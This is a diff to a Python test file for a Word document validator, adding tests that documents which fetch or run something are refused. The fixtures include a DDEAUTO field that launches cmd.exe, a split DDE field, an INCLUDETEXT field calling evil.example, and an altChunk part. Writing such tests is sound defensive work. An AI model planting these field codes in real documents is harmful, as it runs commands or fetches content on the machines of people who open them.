@@ -133,6 +133,10 @@ OUT = 'TargetMode="External"'
         docx(raw=b"<R"),
         docx(extra={"word/other/VBAProject.bin": b"x"}),
         docx(extra={"word/activeX/activeX1.bin": b"x"}),
+        docx(extra={"word/header1.xml": b'<w:instrText> DDEAUTO c:\\cmd.exe "/k calc" </w:instrText>'}),
+        docx(extra={"word/footer1.xml": b"<w:instrText>DDE</w:instrText><w:r/><w:instrText>AUTO x</w:instrText>"}),
+        docx(extra={"word/footnotes.xml": b'<w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.example/x&quot; "/>'}),
+        docx(("aFChunk", "afchunk.mht", ""), extra={"word/afchunk.mht": b"MIME-Version: 1.0"}),
     ],
 )
 def test_a_document_that_fetches_or_runs_something_is_refused(data: bytes, settings: Any, tmp_path: Path) -> None:
@@ -157,6 +161,13 @@ def test_an_ordinary_document_is_taken(relations: list[tuple[str, str, str]]) ->
     kind = kind_of(docx(*relations))
     assert kind is not None
     assert kind.extensions == (".docx",)
+
+
+def test_fields_that_fetch_nothing_are_taken() -> None:
+    """A picture copied from a page of the web lies in the letter, and a word is a word."""
+    fields = b'<w:instrText> INCLUDEPICTURE "http://x/y" \\* MERGEFORMAT </w:instrText><w:instrText>PAGE</w:instrText>'
+    kind = kind_of(docx(extra={"word/header1.xml": fields + b"<w:t>DDEAUTO</w:t>", "word/embeddings/o1.bin": b"x"}))
+    assert kind is not None
 
 
 # What a killed server leaves.
